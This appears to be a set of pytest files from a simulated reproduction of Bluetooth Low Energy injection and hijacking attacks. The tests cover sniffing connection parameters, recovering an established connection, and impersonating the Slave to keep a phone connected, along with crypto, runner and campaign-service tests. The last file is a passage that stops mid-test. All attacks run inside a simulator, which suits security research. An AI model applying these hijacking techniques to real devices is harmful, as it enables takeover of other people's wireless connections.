    def test_wrong_nonce_rejected(self):
        ct = ccm_encrypt(KEY, NONCE, b"data")
        with pytest.raises(SecurityError):
            ccm_decrypt(KEY, bytes(13), ct)

    def test_wrong_aad_rejected(self):
        ct = ccm_encrypt(KEY, NONCE, b"data", aad=b"\x02")
        with pytest.raises(SecurityError):
            ccm_decrypt(KEY, NONCE, ct, aad=b"\x03")

    def test_forged_without_key_rejected(self):
        # An attacker's plaintext injection against an encrypted link:
        # arbitrary bytes never carry a valid MIC.
        forged = b"\x12\x34\x00\x04attacker" + bytes(MIC_LEN)
        with pytest.raises(SecurityError):
            ccm_decrypt(KEY, NONCE, forged)


class TestValidation:
    def test_short_nonce_rejected(self):
        with pytest.raises(SecurityError):
            ccm_encrypt(KEY, bytes(12), b"x")

    def test_ciphertext_shorter_than_mic_rejected(self):
        with pytest.raises(SecurityError):
            ccm_decrypt(KEY, NONCE, bytes(3))

    def test_nonce_uniqueness_matters(self):
        # Same plaintext, different nonce => different ciphertext.
        a = ccm_encrypt(KEY, bytes(13), b"repeat")
        b = ccm_encrypt(KEY, bytes(12) + b"\x01", b"repeat")
        assert a != b
