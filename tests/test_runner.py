"""Tests for the parallel trial runner and the on-disk result cache."""

import pickle

import pytest

from repro.experiments.common import InjectionTrial, run_single_trial, run_trials
from repro.runner import (
    ResultCache,
    execute_trials,
    merge_trial_metrics,
    parallel_map,
    resolve_jobs,
    source_tree_token,
    stable_trial_key,
)
from repro.runner.executor import _chunk_indices


def _square(x):
    """Module-level so the process pool can pickle it."""
    return x * x


def _quick_trial(seed):
    return InjectionTrial(seed=seed, hop_interval=75)


class TestResolveJobs:
    def test_default_is_serial(self, monkeypatch):
        monkeypatch.delenv("REPRO_JOBS", raising=False)
        assert resolve_jobs(None) == 1

    def test_env_var_is_honoured(self, monkeypatch):
        monkeypatch.setenv("REPRO_JOBS", "3")
        assert resolve_jobs(None) == 3

    def test_garbage_env_falls_back(self, monkeypatch):
        monkeypatch.setenv("REPRO_JOBS", "many")
        assert resolve_jobs(None) == 1

    def test_explicit_wins_over_env(self, monkeypatch):
        monkeypatch.setenv("REPRO_JOBS", "7")
        assert resolve_jobs(2) == 2

    def test_zero_means_all_cores(self):
        assert resolve_jobs(0) >= 1


class TestChunking:
    def test_chunks_partition_the_range(self):
        for n_items in (1, 5, 16, 17):
            for n_chunks in (1, 3, 8, 40):
                spans = _chunk_indices(n_items, n_chunks)
                flat = [i for span in spans for i in span]
                assert flat == list(range(n_items))

    def test_no_empty_chunks(self):
        assert all(len(span) > 0 for span in _chunk_indices(3, 16))


class TestParallelMap:
    def test_serial_path(self):
        assert parallel_map(_square, range(7), jobs=1) == [
            0, 1, 4, 9, 16, 25, 36]

    def test_pool_preserves_order(self):
        assert parallel_map(_square, range(23), jobs=3) == [
            i * i for i in range(23)]

    def test_worker_exception_propagates(self):
        with pytest.raises(ZeroDivisionError):
            parallel_map(_reciprocal, [2, 0], jobs=2)


def _reciprocal(x):
    return 1 / x


def _metric_trial(seed):
    return InjectionTrial(seed=seed, hop_interval=75, collect_metrics=True)


class TestParallelDeterminism:
    def test_jobs4_equals_jobs1_field_for_field(self):
        """The runner's core contract: job count never changes results."""
        serial = run_trials(21, 4, _quick_trial, jobs=1)
        parallel = run_trials(21, 4, _quick_trial, jobs=4)
        assert parallel == serial  # TrialResult eq covers report/records too
        assert [r.attempts for r in parallel] == [r.attempts for r in serial]


class TestWorkerMetricsMerging:
    def test_snapshots_cross_the_process_boundary(self):
        results = run_trials(22, 2, _metric_trial, jobs=2)
        for result in results:
            assert result.metrics is not None
            assert result.metrics["counters"]["medium.tx"] > 0

    def test_merged_metrics_identical_at_any_job_count(self):
        """Per-trial snapshots sum to the same campaign aggregate."""
        serial = merge_trial_metrics(run_trials(23, 3, _metric_trial, jobs=1))
        pooled = merge_trial_metrics(run_trials(23, 3, _metric_trial, jobs=2))
        assert pooled == serial
        assert serial["counters"]["inject.success"] == 3

    def test_merge_skips_metricless_results(self):
        mixed = (run_trials(24, 1, _metric_trial, jobs=1)
                 + run_trials(24, 1, _quick_trial, jobs=1))
        merged = merge_trial_metrics(mixed)
        assert merged["counters"]["inject.success"] == 1

    def test_merge_of_nothing_is_empty(self):
        merged = merge_trial_metrics(run_trials(25, 2, _quick_trial, jobs=1))
        assert merged == {"counters": {}, "gauges": {}, "histograms": {}}


class TestTrialKey:
    def test_key_is_stable(self):
        trial = _quick_trial(5)
        assert stable_trial_key(trial, "tok") == stable_trial_key(trial, "tok")

    def test_every_field_is_significant(self):
        base = InjectionTrial(seed=1)
        variants = [
            InjectionTrial(seed=2),
            InjectionTrial(seed=1, hop_interval=75),
            InjectionTrial(seed=1, pdu_len=9),
            InjectionTrial(seed=1, attacker_distance_m=4.0),
            InjectionTrial(seed=1, wall_attenuation_db=8.0),
            InjectionTrial(seed=1, widening_scale=0.5),
            InjectionTrial(seed=1, encrypted=True),
            InjectionTrial(seed=1, collect_metrics=True),
        ]
        keys = {stable_trial_key(t, "tok") for t in [base] + variants}
        assert len(keys) == len(variants) + 1

    def test_code_token_is_significant(self):
        trial = _quick_trial(5)
        assert stable_trial_key(trial, "a") != stable_trial_key(trial, "b")

    def test_non_dataclass_rejected(self):
        with pytest.raises(TypeError):
            stable_trial_key({"seed": 1})


class TestResultCache:
    def test_second_run_hits_the_cache(self, tmp_path):
        cache = ResultCache(root=tmp_path, token="tok")
        trials = [_quick_trial(31_0000 + i) for i in range(2)]
        first = execute_trials(trials, jobs=1, cache=cache)
        assert (cache.hits, cache.misses, cache.stores) == (0, 2, 2)
        second = execute_trials(trials, jobs=1, cache=cache)
        assert cache.hits == 2
        assert second == first

    def test_edited_field_misses(self, tmp_path):
        cache = ResultCache(root=tmp_path, token="tok")
        trial = _quick_trial(32_0000)
        execute_trials([trial], jobs=1, cache=cache)
        edited = InjectionTrial(seed=trial.seed, hop_interval=75, pdu_len=9)
        assert cache.get(edited) is None
        assert cache.misses >= 1

    def test_new_code_token_misses(self, tmp_path):
        old = ResultCache(root=tmp_path, token="old-code")
        trial = _quick_trial(33_0000)
        execute_trials([trial], jobs=1, cache=old)
        fresh = ResultCache(root=tmp_path, token="new-code")
        assert fresh.get(trial) is None

    @pytest.mark.parametrize("garbage", [
        b"not a pickle",   # -> UnpicklingError
        b"garbage\n",      # 'g' is the GET opcode -> ValueError
        b"",               # -> EOFError
    ])
    def test_corrupt_entry_is_a_miss(self, tmp_path, garbage):
        cache = ResultCache(root=tmp_path, token="tok")
        trial = _quick_trial(34_0000)
        cache.put(trial, "placeholder")
        path = cache._path_for(cache.key_for(trial))
        path.write_bytes(garbage)
        assert cache.get(trial) is None
        assert not path.exists()  # corrupt entries are dropped

    def test_roundtrip_preserves_results_exactly(self, tmp_path):
        cache = ResultCache(root=tmp_path, token="tok")
        trial = _quick_trial(35_0000)
        [result] = execute_trials([trial], jobs=1, cache=cache)
        assert cache.get(trial) == result
        # Belt and braces: the pickle layer must be loss-free.
        assert pickle.loads(pickle.dumps(result)) == result

    def test_clear(self, tmp_path):
        cache = ResultCache(root=tmp_path, token="tok")
        cache.put(_quick_trial(36_0000), "x")
        assert len(cache) == 1
        assert cache.clear() == 1
        assert len(cache) == 0

    def test_cache_true_uses_default_location(self, tmp_path, monkeypatch):
        monkeypatch.setenv("REPRO_CACHE_DIR", str(tmp_path / "cachedir"))
        trial = _quick_trial(37_0000)
        first = execute_trials([trial], jobs=1, cache=True)
        second = execute_trials([trial], jobs=1, cache=True)
        assert first == second
        assert (tmp_path / "cachedir").exists()


class TestSourceTreeToken:
    """A source edit must flush cached trials; a lint edit must not."""

    @staticmethod
    def _fake_package(root):
        (root / "sim").mkdir(parents=True)
        (root / "lintkit").mkdir()
        (root / "analysis").mkdir()
        (root / "sim" / "medium.py").write_text("X = 1\n")
        (root / "lintkit" / "engine.py").write_text("Y = 2\n")
        (root / "analysis" / "report.py").write_text("Z = 3\n")
        (root / "cli.py").write_text("W = 4\n")
        return root

    def test_result_relevant_edit_changes_token(self, tmp_path):
        root = self._fake_package(tmp_path)
        before = source_tree_token(root)
        (root / "sim" / "medium.py").write_text("X = 99\n")
        assert source_tree_token(root) != before

    def test_lintkit_edit_keeps_token(self, tmp_path):
        root = self._fake_package(tmp_path)
        before = source_tree_token(root)
        (root / "lintkit" / "engine.py").write_text("Y = 99\n")
        (root / "analysis" / "report.py").write_text("Z = 99\n")
        (root / "cli.py").write_text("W = 99\n")
        assert source_tree_token(root) == before

    def test_new_result_relevant_file_changes_token(self, tmp_path):
        root = self._fake_package(tmp_path)
        before = source_tree_token(root)
        (root / "sim" / "extra.py").write_text("")
        assert source_tree_token(root) != before

    def test_schema_version_is_significant(self, tmp_path):
        root = self._fake_package(tmp_path)
        assert source_tree_token(root, schema_version=1) != \
            source_tree_token(root, schema_version=2)

    def test_source_edit_invalidates_cached_trial(self, tmp_path):
        """End to end: the regression the token exists to prevent."""
        root = self._fake_package(tmp_path / "pkg")
        cache_dir = tmp_path / "cache"
        trial = _quick_trial(38_0000)

        old = ResultCache(root=cache_dir, token=source_tree_token(root))
        old.put(trial, "stale-result")
        assert old.get(trial) == "stale-result"

        (root / "sim" / "medium.py").write_text("X = 99\n")
        new = ResultCache(root=cache_dir, token=source_tree_token(root))
        assert new.get(trial) is None  # stale result is never replayed
        assert new.misses == 1


class TestSeedRepeatability:
    """Two distinct seeds, each run twice: identical results both times.

    This is the determinism contract the lint pass exists to protect —
    every field of the result dataclass must match, not just the headline
    success flag.
    """

    @pytest.mark.parametrize("seed", [40_0001, 40_0002])
    def test_same_seed_same_result(self, seed):
        trial = InjectionTrial(seed=seed, hop_interval=75,
                               collect_metrics=True)
        first = run_single_trial(trial)
        second = run_single_trial(trial)
        assert first == second
        assert first.metrics == second.metrics

    def test_different_seeds_differ_somewhere(self):
        a = run_single_trial(InjectionTrial(seed=40_0001, hop_interval=75))
        b = run_single_trial(InjectionTrial(seed=40_0002, hop_interval=75))
        # Seeds must actually steer the world (guards against a seed that
        # is read but never fed into the RNG streams).
        assert a != b
