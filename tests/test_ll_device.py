"""Unit tests for the LinkLayerDevice base machinery (queue, ARQ, hooks)."""

import pytest

from repro.errors import ConnectionStateError
from repro.ll.connection import ConnectionState, Role
from repro.ll.device import LinkLayerDevice
from repro.ll.pdu.address import BdAddress
from repro.ll.pdu.control import TerminateInd
from repro.ll.pdu.data import LLID
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator
from repro.sim.topology import Topology
from tests.test_ll_connection import make_params


class _StubDevice(LinkLayerDevice):
    """Concrete device for exercising the base class."""

    def _on_frame(self, frame, rssi_dbm):
        pass


@pytest.fixture
def device():
    sim = Simulator(seed=42)
    topo = Topology()
    topo.place("dev", 0.0, 0.0)
    medium = Medium(sim, topo)
    dev = _StubDevice(sim, medium, "dev",
                      BdAddress.from_str("00:11:22:33:44:55"))
    dev.conn = ConnectionState(make_params(), Role.SLAVE)
    return dev


class TestTransmitQueue:
    def test_empty_queue_sends_empty_pdu(self, device):
        pdu = device.next_pdu_to_send()
        assert pdu.is_empty

    def test_data_queued_in_order(self, device):
        device.send_data(b"\x01\x00\x04\x00a")
        device.send_data(b"\x01\x00\x04\x00b")
        first = device.next_pdu_to_send()
        assert first.payload.endswith(b"a")
        # Ack the first, then the second goes out.
        device.conn.on_received_bits(sn=0, nesn=1)
        second = device.next_pdu_to_send()
        assert second.payload.endswith(b"b")

    def test_retransmission_until_acked(self, device):
        device.send_data(b"\x01\x00\x04\x00x")
        first = device.next_pdu_to_send()
        # Peer nacks (NESN unchanged): same payload again.
        device.conn.on_received_bits(sn=0, nesn=0)
        again = device.next_pdu_to_send()
        assert again.payload == first.payload

    def test_control_queued_as_control_llid(self, device):
        device.send_control(TerminateInd())
        pdu = device.next_pdu_to_send()
        assert pdu.header.llid is LLID.CONTROL
        assert pdu.payload[0] == 0x02

    def test_sn_nesn_stamped_from_connection(self, device):
        device.conn.transmit_seq_num = 1
        device.conn.next_expected_seq_num = 1
        pdu = device.next_pdu_to_send()
        assert pdu.header.sn == 1 and pdu.header.nesn == 1

    def test_empty_payload_rejected(self, device):
        with pytest.raises(ConnectionStateError):
            device.send_data(b"")

    def test_queue_introspection(self, device):
        device.send_data(b"\x01\x00\x04\x00a")
        assert device.queued_pdus() == 1
        device.clear_queue()
        assert device.queued_pdus() == 0


class TestLifecycle:
    def test_disconnect_clears_state(self, device):
        device.send_data(b"\x01\x00\x04\x00a")
        reasons = []
        device.on_disconnected = reasons.append
        device.disconnect("test teardown")
        assert device.conn is None
        assert device.queued_pdus() == 0
        assert reasons == ["test teardown"]
        assert not device.is_connected

    def test_disconnect_without_connection_is_noop(self, device):
        device.conn = None
        device.disconnect("nothing to do")  # must not raise

    def test_require_conn_raises_when_absent(self, device):
        device.conn = None
        with pytest.raises(ConnectionStateError):
            device.next_pdu_to_send()

    def test_local_clock_scheduling(self, device):
        fired = []
        local_target = device.clock.local_from_true(device.sim.now) + 1000.0
        device.schedule_local(local_target, lambda: fired.append(device.sim.now))
        device.sim.run()
        assert len(fired) == 1
        # Fired within jitter of the converted true time.
        expected = device.clock.true_from_local(local_target)
        assert fired[0] == pytest.approx(expected, abs=10.0)


class TestEncryptionHook:
    def test_tx_encrypted_when_session_active(self, device):
        from repro.crypto.session import LinkEncryption

        device.encryption = LinkEncryption(bytes(16), 1, 2, is_master=False)
        device.send_data(b"\x01\x00\x04\x00secret")
        pdu = device.next_pdu_to_send()
        assert pdu.payload != b"\x01\x00\x04\x00secret"
        assert len(pdu.payload) == len(b"\x01\x00\x04\x00secret") + 4

    def test_mic_failure_disconnects(self, device):
        from repro.crypto.session import LinkEncryption
        from repro.ll.pdu.data import DataPdu

        device.encryption = LinkEncryption(bytes(16), 1, 2, is_master=False)
        reasons = []
        device.on_disconnected = reasons.append
        result = device.decrypt_if_needed(
            DataPdu.make(LLID.DATA_START, bytes(12)))
        assert result is None
        assert reasons == ["MIC failure"]
