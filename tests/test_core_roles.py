"""Unit/integration tests for the attacker's fake Slave/Master roles."""

from collections import deque

import pytest

from repro.core.roles import FakeMaster, FakeSlave, _MiniArq
from repro.ll.pdu.data import LLID, DataPdu


class TestMiniArq:
    def test_lazy_init_from_peer(self):
        arq = _MiniArq()
        arq.init_from_peer(sn=1, nesn=0)
        assert arq.initialized
        assert arq.transmit_seq == 0 and arq.next_expected == 1

    def test_lazy_init_only_once(self):
        arq = _MiniArq()
        arq.init_from_peer(sn=1, nesn=0)
        arq.init_from_peer(sn=0, nesn=1)
        assert arq.next_expected == 1  # unchanged

    def test_new_data_flow(self):
        arq = _MiniArq()
        arq.init_from_peer(sn=0, nesn=0)
        assert arq.on_received(sn=0, nesn=0)      # new data
        assert not arq.on_received(sn=0, nesn=0)  # retransmission

    def test_retransmit_until_acked(self):
        arq = _MiniArq()
        arq.init_from_peer(sn=0, nesn=0)
        queue = deque([DataPdu.make(LLID.DATA_START, b"q1"),
                       DataPdu.make(LLID.DATA_START, b"q2")])
        first = arq.next_pdu(queue)
        assert first.payload == b"q1"
        # Peer nacks: same payload again (with current bits).
        arq.on_received(sn=1, nesn=arq.transmit_seq)
        again = arq.next_pdu(queue)
        assert again.payload == b"q1"
        # Peer acks: move on.
        arq.on_received(sn=0, nesn=arq.transmit_seq ^ 1)
        third = arq.next_pdu(queue)
        assert third.payload == b"q2"

    def test_empty_pdu_when_queue_dry(self):
        arq = _MiniArq()
        arq.init_from_peer(sn=0, nesn=0)
        arq.on_received(sn=0, nesn=1)
        pdu = arq.next_pdu(deque())
        assert pdu.is_empty


class TestFakeSlaveLive:
    """End-to-end: terminate the real Slave, splice in the fake one."""

    def build(self, seed=21):
        from repro.core.attacker import Attacker
        from repro.core.scenarios import SlaveHijackScenario
        from repro.core.scenarios.scenario_b import hacked_gatt_server
        from repro.devices import Lightbulb, Smartphone
        from repro.sim.medium import Medium
        from repro.sim.simulator import Simulator
        from repro.sim.topology import Topology

        sim = Simulator(seed=seed)
        topo = Topology.equilateral_triangle(("bulb", "phone", "attacker"))
        medium = Medium(sim, topo)
        bulb = Lightbulb(sim, medium, "bulb")
        bulb.ll.readvertise_on_disconnect = False
        phone = Smartphone(sim, medium, "phone", interval=36)
        attacker = Attacker(sim, medium, "attacker")
        attacker.sniff_new_connections()
        bulb.power_on()
        phone.connect_to(bulb.address)
        sim.run(until_us=1_200_000)
        assert attacker.synchronized
        return sim, bulb, phone, attacker

    def test_fake_slave_keeps_master_alive(self):
        sim, bulb, phone, attacker = self.build()
        from repro.core.scenarios import SlaveHijackScenario

        results = []
        SlaveHijackScenario(attacker).run(on_done=results.append)
        sim.run(until_us=15_000_000)
        assert results[0].success
        assert phone.is_connected  # kept alive by the impersonation
        assert results[0].fake_slave.frames_answered > 50

    def test_fake_slave_sn_nesn_consistent(self):
        sim, bulb, phone, attacker = self.build(seed=22)
        from repro.core.scenarios import SlaveHijackScenario

        results = []
        SlaveHijackScenario(attacker).run(on_done=results.append)
        sim.run(until_us=10_000_000)
        assert results[0].success
        # The Master never logs a CRC error or desync against the fake.
        crc_errors = sim.trace.filter(source="phone", kind="crc-error")
        assert len(crc_errors) == 0

    def test_fake_slave_stops_cleanly(self):
        sim, bulb, phone, attacker = self.build(seed=23)
        from repro.core.scenarios import SlaveHijackScenario

        results = []
        SlaveHijackScenario(attacker).run(on_done=results.append)
        sim.run(until_us=8_000_000)
        fake = results[0].fake_slave
        fake.stop()
        answered = fake.frames_answered
        sim.run(until_us=12_000_000)
        assert fake.frames_answered == answered
