"""Integration tests for the connection sniffer (both synchronisation paths)."""

import pytest

from repro.core.attacker import Attacker
from repro.core.sniffer import modular_inverse
from repro.devices import Lightbulb, Smartphone
from repro.errors import SnifferError
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator
from repro.sim.topology import Topology


def build_world(seed=1, interval=36):
    sim = Simulator(seed=seed)
    topo = Topology.equilateral_triangle(("bulb", "phone", "attacker"))
    medium = Medium(sim, topo)
    bulb = Lightbulb(sim, medium, "bulb")
    phone = Smartphone(sim, medium, "phone", interval=interval)
    attacker = Attacker(sim, medium, "attacker")
    return sim, bulb, phone, attacker


class TestModularInverse:
    def test_inverse_property(self):
        for k in range(1, 37):
            assert (k * modular_inverse(k)) % 37 == 1

    def test_zero_rejected(self):
        with pytest.raises(SnifferError):
            modular_inverse(0)


class TestConnectReqCapture:
    def test_synchronises_on_new_connection(self):
        sim, bulb, phone, attacker = build_world()
        attacker.sniff_new_connections()
        bulb.power_on()
        phone.connect_to(bulb.address)
        sim.run(until_us=1_500_000)
        assert attacker.synchronized

    def test_captured_parameters_exact(self):
        sim, bulb, phone, attacker = build_world()
        attacker.sniff_new_connections()
        bulb.power_on()
        phone.connect_to(bulb.address)
        sim.run(until_us=1_500_000)
        truth = phone.ll.conn.params
        captured = attacker.connection.params
        assert captured.access_address == truth.access_address
        assert captured.crc_init == truth.crc_init
        assert captured.interval == truth.interval
        assert captured.hop_increment == truth.hop_increment
        assert captured.channel_map == truth.channel_map

    def test_follows_anchors(self):
        sim, bulb, phone, attacker = build_world()
        attacker.sniff_new_connections()
        bulb.power_on()
        phone.connect_to(bulb.address)
        sim.run(until_us=3_000_000)
        conn = attacker.connection
        assert conn.last_anchor_us is not None
        assert conn.events_since_anchor <= 1

    def test_observes_slave_bits(self):
        sim, bulb, phone, attacker = build_world()
        attacker.sniff_new_connections()
        bulb.power_on()
        phone.connect_to(bulb.address)
        sim.run(until_us=2_000_000)
        assert attacker.connection.slave_bits.seen
        assert attacker.connection.master_bits.seen

    def test_tracks_event_counter_with_victims(self):
        sim, bulb, phone, attacker = build_world()
        attacker.sniff_new_connections()
        bulb.power_on()
        phone.connect_to(bulb.address)
        sim.run(until_us=3_000_000)
        # The sniffer's channel mirrors the Master's next transmission.
        assert attacker.connection.current_channel is not None

    def test_follows_legitimate_connection_update(self):
        sim, bulb, phone, attacker = build_world()
        attacker.sniff_new_connections()
        bulb.power_on()
        phone.connect_to(bulb.address)
        sim.run(until_us=1_500_000)
        phone.ll.request_connection_update(interval=75)
        sim.run(until_us=5_000_000)
        assert attacker.connection.params.interval == 75
        assert attacker.connection.alive
        # Still anchored after the re-timing.
        assert attacker.connection.events_since_anchor <= 1

    def test_detects_termination(self):
        sim, bulb, phone, attacker = build_world()
        lost = []
        attacker.sniffer.on_lost = lost.append
        attacker.sniff_new_connections()
        bulb.power_on()
        phone.connect_to(bulb.address)
        sim.run(until_us=1_500_000)
        phone.ll.terminate()
        sim.run(until_us=4_000_000)
        assert lost == ["terminated"]
        assert not attacker.connection.alive

    def test_loses_silent_connection(self):
        sim, bulb, phone, attacker = build_world()
        lost = []
        attacker.sniffer.on_lost = lost.append
        attacker.sniff_new_connections()
        bulb.power_on()
        phone.connect_to(bulb.address)
        sim.run(until_us=1_500_000)
        # Both victims vanish without a word.
        phone.ll.disconnect("power loss")
        bulb.ll.disconnect("power loss")
        bulb.ll.readvertise_on_disconnect = False
        sim.run(until_us=5_000_000)
        assert lost and "lost" in lost[0]


class TestEstablishedRecovery:
    def build_established(self, seed=9, interval=36):
        sim, bulb, phone, attacker = build_world(seed=seed,
                                                 interval=interval)
        bulb.power_on()
        phone.connect_to(bulb.address)
        sim.run(until_us=2_000_000)
        assert phone.is_connected
        return sim, bulb, phone, attacker

    def test_recovers_all_parameters(self):
        sim, bulb, phone, attacker = self.build_established()
        attacker.recover_established(probe_channel=0)
        sim.run(until_us=60_000_000)
        truth = phone.ll.conn.params
        conn = attacker.connection
        assert conn is not None
        assert conn.params.access_address == truth.access_address
        assert conn.params.crc_init == truth.crc_init
        assert conn.params.interval == truth.interval
        assert conn.params.hop_increment == truth.hop_increment

    def test_following_after_recovery(self):
        sim, bulb, phone, attacker = self.build_established()
        attacker.recover_established(probe_channel=0)
        sim.run(until_us=60_000_000)
        assert attacker.synchronized
        assert attacker.connection.slave_bits.seen

    def test_recovery_works_on_other_probe_channel(self):
        sim, bulb, phone, attacker = self.build_established(seed=10)
        attacker.recover_established(probe_channel=5)
        sim.run(until_us=60_000_000)
        assert attacker.connection is not None
        assert attacker.connection.params.access_address == \
            phone.ll.conn.params.access_address
