"""Unit tests for advertising PDUs and CONNECT_REQ (paper Table II)."""

import pytest

from repro.errors import CodecError
from repro.ll.pdu.address import BdAddress
from repro.ll.pdu.advertising import (
    AdvInd,
    ConnectReq,
    LLData,
    ScanReq,
    ScanRsp,
    decode_advertising_pdu,
)

ADDR_A = BdAddress.from_str("AA:BB:CC:DD:EE:FF")
ADDR_B = BdAddress.from_str("11:22:33:44:55:66", random=True)


def make_ll_data(**overrides) -> LLData:
    fields = dict(
        access_address=0x50123456,
        crc_init=0xABCDEF,
        win_size=2,
        win_offset=4,
        interval=75,
        latency=0,
        timeout=300,
        channel_map=(1 << 37) - 1,
        hop_increment=9,
        sca=5,
    )
    fields.update(overrides)
    return LLData(**fields)


class TestBdAddress:
    def test_string_round_trip(self):
        assert str(ADDR_A) == "AA:BB:CC:DD:EE:FF"

    def test_bytes_little_endian(self):
        assert ADDR_A.to_bytes() == bytes.fromhex("FFEEDDCCBBAA")

    def test_bytes_round_trip(self):
        assert BdAddress.from_bytes(ADDR_A.to_bytes()) == ADDR_A

    def test_malformed_string_rejected(self):
        with pytest.raises(CodecError):
            BdAddress.from_str("not-an-address")

    def test_generate_static_random_top_bits(self):
        import numpy as np

        addr = BdAddress.generate(np.random.default_rng(1))
        assert (addr.value >> 46) & 0b11 == 0b11

    def test_out_of_range_rejected(self):
        with pytest.raises(CodecError):
            BdAddress(1 << 48)


class TestAdvInd:
    def test_round_trip(self):
        pdu = AdvInd(ADDR_A, b"\x02\x01\x06")
        decoded = decode_advertising_pdu(pdu.to_bytes())
        assert isinstance(decoded, AdvInd)
        assert decoded.adv_addr == ADDR_A
        assert decoded.adv_data == b"\x02\x01\x06"

    def test_tx_add_carries_random_flag(self):
        pdu = AdvInd(ADDR_B)
        decoded = decode_advertising_pdu(pdu.to_bytes())
        assert decoded.adv_addr.random

    def test_adv_data_max_31_bytes(self):
        with pytest.raises(CodecError):
            AdvInd(ADDR_A, bytes(32))


class TestScanPdus:
    def test_scan_req_round_trip(self):
        pdu = ScanReq(ADDR_B, ADDR_A)
        decoded = decode_advertising_pdu(pdu.to_bytes())
        assert isinstance(decoded, ScanReq)
        assert decoded.scan_addr == ADDR_B
        assert decoded.adv_addr == ADDR_A

    def test_scan_rsp_round_trip(self):
        pdu = ScanRsp(ADDR_A, b"\x05\x09watch"[:7])
        decoded = decode_advertising_pdu(pdu.to_bytes())
        assert isinstance(decoded, ScanRsp)
        assert decoded.adv_addr == ADDR_A


class TestLLData:
    def test_is_22_bytes(self):
        # Table II: AA(4) CRCInit(3) WinSize(1) WinOffset(2) Interval(2)
        # Latency(2) Timeout(2) ChM(5) Hop(5b)+SCA(3b).
        assert len(make_ll_data().to_bytes()) == 22

    def test_round_trip(self):
        ll_data = make_ll_data()
        assert LLData.from_bytes(ll_data.to_bytes()) == ll_data

    def test_hop_and_sca_packed_in_last_byte(self):
        ll_data = make_ll_data(hop_increment=0x0F, sca=0x7)
        last = ll_data.to_bytes()[-1]
        assert last & 0x1F == 0x0F
        assert last >> 5 == 0x7

    @pytest.mark.parametrize("field,value", [
        ("win_size", 0), ("win_size", 9),
        ("interval", 5), ("interval", 3201),
        ("hop_increment", 4), ("hop_increment", 17),
        ("sca", 8), ("channel_map", 0),
    ])
    def test_field_validation(self, field, value):
        with pytest.raises(CodecError):
            make_ll_data(**{field: value})

    def test_wrong_length_rejected(self):
        with pytest.raises(CodecError):
            LLData.from_bytes(bytes(21))


class TestConnectReq:
    def test_round_trip(self):
        req = ConnectReq(ADDR_B, ADDR_A, make_ll_data())
        decoded = decode_advertising_pdu(req.to_bytes())
        assert isinstance(decoded, ConnectReq)
        assert decoded == req

    def test_body_is_34_bytes(self):
        req = ConnectReq(ADDR_B, ADDR_A, make_ll_data())
        assert req.to_bytes()[1] == 34

    def test_address_type_flags(self):
        req = ConnectReq(ADDR_B, ADDR_A, make_ll_data())
        decoded = decode_advertising_pdu(req.to_bytes())
        assert decoded.init_addr.random and not decoded.adv_addr.random


class TestDecodeErrors:
    def test_too_short(self):
        with pytest.raises(CodecError):
            decode_advertising_pdu(b"\x00")

    def test_length_mismatch(self):
        with pytest.raises(CodecError):
            decode_advertising_pdu(b"\x00\x10\x01")

    def test_unknown_type(self):
        with pytest.raises(CodecError):
            decode_advertising_pdu(bytes([0x0F, 0]))
