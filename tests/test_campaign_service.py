"""Tests for the distributed campaign service.

Layers, roughly bottom-up:

* **LeaseQueue** — pure scheduling semantics under a scripted clock:
  grant order, steal age gating, deadline expiry, first-wins dedup.
* **Coordinator** — the dict-level worker protocol against a real
  journal: welcome/lease/result round-trips, duplicate and stale-result
  handling, telemetry counters, the status event stream.
* **HTTP API** — submit/status/report/metrics over a live socket via
  the stdlib client, including the one-campaign-at-a-time conflict.
* **The acceptance criterion** — a 48-unit campaign served to three
  worker processes; one worker is SIGKILLed mid-run, then the
  coordinator itself is torn down and a fresh one resumes the same
  journal on the same port.  Every unit must land in the journal
  exactly once and the report must be byte-identical to a serial
  ``run_campaign`` baseline.
* **Journal durability** — fsync-on-append flag, and recovery from a
  tail truncated *mid-record* (not just a torn appended line).
"""

from __future__ import annotations

import asyncio
import dataclasses
import json
import time
from pathlib import Path

import pytest

from repro.campaign import (
    CampaignSpec,
    ExperimentDef,
    build_report,
    load_state,
    read_journal,
    register_experiment,
    register_trial_runner,
    run_campaign,
)
from repro.campaign.service import (
    Coordinator,
    LeaseQueue,
    ServiceServer,
    fetch_metrics,
    fetch_report,
    fetch_status,
    parse_endpoint,
    parse_url,
    serve_campaign,
    spawn_worker,
    submit_campaign,
)
from repro.campaign.service.coordinator import unit_record_payload
from repro.cli import main
from repro.errors import ConfigurationError, ServiceError
from repro.experiments.common import TrialResult

# --------------------------------------------------------------------------
# Synthetic experiments (module-level: fork-inherited by worker processes).


@dataclasses.dataclass(frozen=True)
class _SleepyTrial:
    seed: int


@dataclasses.dataclass(frozen=True)
class _QuickTrial:
    seed: int


def _run_sleepy_trial(trial):
    time.sleep(0.03)  # long enough to kill things mid-campaign
    return TrialResult(success=True, attempts=trial.seed % 3 + 1,
                       effect_observed=True, connection_survived=True)


def _run_quick_trial(trial):
    return TrialResult(success=trial.seed % 4 != 3,
                       attempts=trial.seed % 2 + 1,
                       effect_observed=True, connection_survived=True)


def _sleepy_units(base_seed=0, n_connections=2):
    return [("sleepy", _SleepyTrial(seed=base_seed + i))
            for i in range(n_connections)]


def _quick_units(base_seed=0, n_connections=2):
    return [("quick", _QuickTrial(seed=base_seed + i))
            for i in range(n_connections)]


register_experiment(ExperimentDef(
    "test-sleepy", _sleepy_units, "slow fixture"), replace=True)
register_experiment(ExperimentDef(
    "test-quick", _quick_units, "instant fixture"), replace=True)
register_trial_runner(_SleepyTrial, _run_sleepy_trial, replace=True)
register_trial_runner(_QuickTrial, _run_quick_trial, replace=True)


def _quick_spec(n=6) -> CampaignSpec:
    return CampaignSpec.from_dict({
        "name": "svc-quick", "seed": 0, "timeout_s": 60,
        "axes": [{"experiment": "test-quick", "n_connections": n}],
    })


def _grid48_spec() -> CampaignSpec:
    """48 units across two axes — the acceptance-criterion grid."""
    return CampaignSpec.from_dict({
        "name": "svc-grid48", "seed": 0, "timeout_s": 60,
        "axes": [
            {"experiment": "test-sleepy", "n_connections": 32},
            {"experiment": "test-quick", "n_connections": 16},
        ],
    })


# --------------------------------------------------------------------------
# LeaseQueue: pure scheduling semantics.


class TestLeaseQueue:
    def test_pending_granted_in_order_then_nothing(self):
        q = LeaseQueue(["a", "b"], lease_timeout_s=10, steal_after_s=5)
        first = q.lease("w1", now=0.0)
        second = q.lease("w2", now=0.1)
